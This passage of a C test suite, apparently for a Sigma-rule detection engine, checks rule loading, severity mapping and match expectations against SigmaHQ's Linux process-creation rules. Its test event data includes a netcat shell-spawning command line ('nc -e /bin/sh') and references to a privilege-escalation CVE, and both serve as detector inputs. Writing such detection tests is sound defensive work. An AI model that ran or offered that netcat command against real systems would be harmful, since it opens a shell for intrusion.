		"\"cve.2021-4034\"]},\"mitreAttack\":{\"primaryTactic\":\"EXECUTION\","
		"\"additionalTactics\":[\"COMMAND_AND_CONTROL\",\"DEFENSE_EVASION\"],"
		"\"techniqueIds\":[\"T1059.004\","
		"\"T1095\"]},\"event\":{\"Image\":\"/bin/nc\"}}");
	json_object_put(o);
	json_object_put(ev);
	whorl_sigma_free(&set);
}

struct level_case {
	const char *level;
	enum whorl_sigma_severity severity;
};

static void levels_map_to_severities(void **state)
{
	static const struct level_case levels[] = {
		{ "informational", WHORL_SIGMA_LOW }, { "low", WHORL_SIGMA_LOW },
		{ "medium", WHORL_SIGMA_MEDIUM }, { "high", WHORL_SIGMA_HIGH },
		{ "critical", WHORL_SIGMA_CRITICAL }, { NULL, WHORL_SIGMA_MEDIUM },
	};
	char text[512], err[WHORL_SIGMA_ERR_MAX];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(levels) / sizeof(levels[0]); i++) {
		struct whorl_sigma_set set = { 0 };

		snprintf(text, sizeof(text), "title: t\n%s%s%s" "logsource: {category: "
			 "process_creation, product: linux}\ndetection:\n  s:\n    Image: a\n"
			 "  condition: s\n", levels[i].level ? "level: " : "",
			 levels[i].level ? levels[i].level : "", levels[i].level ? "\n" : "");
		assert_int_equal(whorl_sigma_load_buf(&set, "t.yml", text, strlen(text), err), 0);
		assert_int_equal(whorl_sigma_rule_meta(&set, 0)->severity, levels[i].severity);
		whorl_sigma_free(&set);
	}
}

static void event_json_refuses_unknown_fields(void **state)
{
	struct whorl_sigma_json_event ev;
	char err[WHORL_SIGMA_JSON_ERR_MAX];
	json_object *o = json_tokener_parse("{\"Image\": \"/a\", \"Imagee\": \"/b\"}");

	(void)state;
	assert_int_equal(whorl_sigma_event_from_json(o, &ev, err), -1);
	assert_string_equal(err, "unknown field 'Imagee'");
	json_object_put(o);
}

/* --- SigmaHQ's Linux process_creation rules ---------------------------------------------------- */

/* $WHORL_SIGMA_DIR, else ../shared/sigma/linux-process-creation beside the repository. */
static const char *sigmahq_dir(void)
{
	const char *d = getenv("WHORL_SIGMA_DIR");

	return d && *d ? d : "../../shared/sigma/linux-process-creation";
}

struct rule_expect {
	const char *rule;		/* file name */
	size_t n;
	json_object **exp;		/* {"match", "why", "event"} */
};

struct corpus {
	struct whorl_sigma_set set;
	char refused[64 * 1024];	/* "FILE:LINE: reason\n" per refused rule, file names only */
	size_t refused_len;
	struct rule_expect *rules;
	size_t nrules;
	json_object *files[2];
};

static struct corpus corpus;

static void corpus_refused(void *ctx, const char *msg)
{
	struct corpus *c = ctx;
	const char *base = strstr(msg, "/proc_creation_lnx_");

	base = base ? base + 1 : msg;
	c->refused_len += snprintf(c->refused + c->refused_len,
				   sizeof(c->refused) - c->refused_len, "%s\n", base);
}

static struct rule_expect *rule_expect(struct corpus *c, const char *rule)
{
	size_t i;

	for (i = 0; i < c->nrules; i++)
		if (!strcmp(c->rules[i].rule, rule))
			return &c->rules[i];
	return NULL;
}

/* Reads one expectations file (JSON lines) into an array it keeps in @c->files[@k]. */
static int read_expectations(struct corpus *c, int k, const char *path)
{
	char *line = NULL;
	size_t cap = 0, lineno = 0;
	struct rule_expect *r;
	json_object *o, *rule;
	FILE *f = fopen(path, "r");

	if (!f) {
		print_error("cannot open %s\n", path);
		return -1;
	}
	c->files[k] = json_object_new_array();
	while (getline(&line, &cap, f) >= 0) {
		lineno++;
		o = json_tokener_parse(line);
		if (!o || !json_object_object_get_ex(o, "rule", &rule)) {
			print_error("%s:%zu: not an expectation\n", path, lineno);
			json_object_put(o);
			fclose(f);
			free(line);
			return -1;
		}
		json_object_array_add(c->files[k], o);
		r = rule_expect(c, json_object_get_string(rule));
		if (!r) {
			print_error("%s:%zu: no rule named %s in %s\n", path, lineno,
				    json_object_get_string(rule), sigmahq_dir());
			fclose(f);
			free(line);
			return -1;
		}
		r->exp = realloc(r->exp, (r->n + 1) * sizeof(*r->exp));
		r->exp[r->n++] = o;
	}
	free(line);
	fclose(f);
	return 0;
}

static int corpus_setup(void **state)
{
	struct corpus *c = &corpus;
	const char *base;
	size_t i;

	*state = c;
	if (whorl_sigma_load_path(&c->set, sigmahq_dir(), corpus_refused, c) || !c->set.n) {
		print_error("cannot load SigmaHQ's rules from %s (set WHORL_SIGMA_DIR, or put "
			    "shared/ beside the repository)\n", sigmahq_dir());
		return -1;
	}
	c->rules = calloc(c->set.n + 1, sizeof(*c->rules));
	for (i = 0; i < c->set.n; i++) {
		base = strrchr(whorl_sigma_rule_meta(&c->set, i)->path, '/');
		c->rules[c->nrules++].rule = base ? base + 1 : whorl_sigma_rule_meta(&c->set, i)->path;
	}
	if (read_expectations(c, 0, "tests/sigma/expect-generated.jsonl") ||
	    read_expectations(c, 1, "tests/sigma/expect-manual.jsonl"))
		return -1;
	return 0;
}

static int corpus_teardown(void **state)
{
	struct corpus *c = *state;
	size_t i;

	for (i = 0; i < c->nrules; i++)
		free(c->rules[i].exp);
	free(c->rules);
	json_object_put(c->files[0]);
	json_object_put(c->files[1]);
	whorl_sigma_free(&c->set);
	return 0;
}

static char *slurp(const char *path)
{
	FILE *f = fopen(path, "r");
	char *s = NULL;
	size_t len = 0;

	if (!f)
		fail_msg("cannot open %s", path);
	s = calloc(1, 256 * 1024);
	len = fread(s, 1, 256 * 1024 - 1, f);
	s[len] = '\0';
	fclose(f);
	return s;
}

/* The refused set is exactly tests/sigma/refused.txt's (comments and blank lines aside). */
static void sigmahq_rules_load_or_are_refused_as_documented(void **state)
{
	struct corpus *c = *state;
	char *want = slurp("tests/sigma/refused.txt"), *p, *q;

	for (p = q = want; *p; ) {
		size_t n = strcspn(p, "\n");

		if (n && p[0] != '#') {
			memmove(q, p, n);
			q[n] = '\n';
			q += n + 1;
		}
		p += n + (p[n] == '\n');
	}
	*q = '\0';
	assert_int_equal(c->set.n + c->set.refused, SIGMAHQ_RULES);
	if (strcmp(c->refused, want))
		fail_msg("refused rules differ from tests/sigma/refused.txt\nexpected:\n%s\ngot:\n%s",
			 want, c->refused);
	free(want);
}

static void sigmahq_rule_expectations(void **state)
{
	const struct rule_expect *r = *state;
	const struct whorl_sigma_meta **hits;
	size_t i, yes = 0, no = 0;
	json_object *match, *why, *event;
	const char *base;
	long n, k;
	int found;

	hits = calloc(corpus.set.n, sizeof(*hits));
	assert_non_null(hits);
	for (i = 0; i < r->n; i++) {
		json_object_object_get_ex(r->exp[i], "match", &match);
		json_object_object_get_ex(r->exp[i], "why", &why);
		json_object_object_get_ex(r->exp[i], "event", &event);
		n = match_json(&corpus.set, json_object_to_json_string(event), hits, corpus.set.n);
		assert_true(n >= 0);
		for (found = 0, k = 0; k < n; k++) {
			base = strrchr(hits[k]->path, '/');
			found |= !strcmp(base ? base + 1 : hits[k]->path, r->rule);
		}
		if (found != json_object_get_boolean(match))
			fail_msg("%s: %s (%s): expected %s\nevent: %s", r->rule,
				 json_object_get_string(why), found ? "matched" : "did not match",
				 found ? "no match" : "a match", json_object_to_json_string(event));
		yes += found;
		no += !found;
	}
	free(hits);
	if (!yes || !no)
		fail_msg("%s: needs at least one event that matches and one that does not "
			 "(has %zu and %zu) in tests/sigma/expect-*.jsonl", r->rule, yes, no);
}

/* Every rule evaluated, the index bypassed: the verdicts whorl_sigma_match() must reproduce. */
static void check_index_on(const char *event_json)
{
	const struct whorl_sigma_meta **hits = calloc(corpus.set.n, sizeof(*hits));
	struct whorl_sigma_scratch *sc = sigma_scratch_new();
	char err[WHORL_SIGMA_JSON_ERR_MAX];
	struct whorl_sigma_json_event ev;
	json_object *o = json_tokener_parse(event_json);
	size_t i, k = 0;
	long n;

	assert_non_null(hits);
	assert_non_null(sc);
	assert_int_equal(whorl_sigma_event_from_json(o, &ev, err), 0);
	n = whorl_sigma_match(&corpus.set, &ev.ev, hits, corpus.set.n);
	assert_int_equal(sigma_scratch_prepare(sc, &ev.ev, corpus.set.max_searches), 0);
	for (i = 0; i < corpus.set.n; i++) {
		if (!sigma_rule_matches(sc, corpus.set.rules[i]))
			continue;
		if ((long)k >= n || hits[k] != whorl_sigma_rule_meta(&corpus.set, i))
			fail_msg("the index skipped %s for %s", whorl_sigma_rule_meta(&corpus.set, i)->path,
				 event_json);
		k++;
	}
	if ((long)k != n)
		fail_msg("%ld matches with the index, %zu without, for %s", n, k, event_json);
	sigma_scratch_free(sc);
	json_object_put(o);
	free(hits);
}

/* The file-name index only skips work: same verdicts over every expectation's event. */
static void file_name_index_never_changes_a_verdict(void **state)
{
	json_object *e, *event;
	size_t f, i;

	(void)state;
	for (f = 0; f < 2; f++) {
		for (i = 0; i < json_object_array_length(corpus.files[f]); i++) {
			e = json_object_array_get_idx(corpus.files[f], i);
			json_object_object_get_ex(e, "event", &event);
			check_index_on(json_object_to_json_string(event));
		}
	}
	check_index_on("{}");
	check_index_on("{\"Image\": \"\"}");
	check_index_on("{\"Image\": \"nc\", \"CommandLine\": \"nc -e /bin/sh\"}");
	check_index_on("{\"Image\": \"/usr/bin/\", \"CommandLine\": \"x\"}");
}

int main(void)
{
	struct CMUnitTest sem_tests[sizeof(sem) / sizeof(sem[0])];
	struct CMUnitTest bad_tests[sizeof(bad) / sizeof(bad[0])];
	const struct CMUnitTest other[] = {
		cmocka_unit_test(huge_file_is_refused),
		cmocka_unit_test(deep_nesting_is_refused),
		cmocka_unit_test(too_many_nodes_are_refused),
		cmocka_unit_test(one_bad_file_leaves_the_others_loaded),
		cmocka_unit_test(match_carries_rule_attribution_and_mitre),
		cmocka_unit_test(match_json_names_rule_severity_and_event),
		cmocka_unit_test(levels_map_to_severities),
		cmocka_unit_test(event_json_refuses_unknown_fields),
	};
	struct CMUnitTest *hq;
	size_t i;
	int failed = 0;

	for (i = 0; i < sizeof(sem) / sizeof(sem[0]); i++)
		sem_tests[i] = (struct CMUnitTest){ .name = sem[i].name, .test_func = semantics,
						     .initial_state = (void *)&sem[i] };
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		bad_tests[i] = (struct CMUnitTest){ .name = bad[i].name, .test_func = refused,
						     .initial_state = (void *)&bad[i] };
	failed += cmocka_run_group_tests_name("sigma semantics", sem_tests, NULL, NULL);
	failed += cmocka_run_group_tests_name("sigma refused input", bad_tests, NULL, NULL);
	failed += cmocka_run_group_tests_name("sigma", other, NULL, NULL);

	/* SigmaHQ: the refused set, the index, then one case per loaded rule. */
	if (corpus_setup(&(void *){ NULL })) {
		print_error("[  FAILED  ] sigmahq: setup failed (see above)\n");
		corpus_teardown(&(void *){ &corpus });
		return failed + 1;
	}
	hq = calloc(corpus.nrules + 2, sizeof(*hq));
	hq[0] = (struct CMUnitTest){ .name = "sigmahq_rules_load_or_are_refused_as_documented",
				     .test_func = sigmahq_rules_load_or_are_refused_as_documented,
				     .initial_state = &corpus };
	hq[1] = (struct CMUnitTest){ .name = "file_name_index_never_changes_a_verdict",
				     .test_func = file_name_index_never_changes_a_verdict };
	for (i = 0; i < corpus.nrules; i++)
		hq[i + 2] = (struct CMUnitTest){ .name = corpus.rules[i].rule,
						 .test_func = sigmahq_rule_expectations,
						 .initial_state = &corpus.rules[i] };
	failed += _cmocka_run_group_tests("sigmahq", hq, corpus.nrules + 2, NULL, NULL);
	free(hq);
	corpus_teardown(&(void *){ &corpus });
	return failed;
}
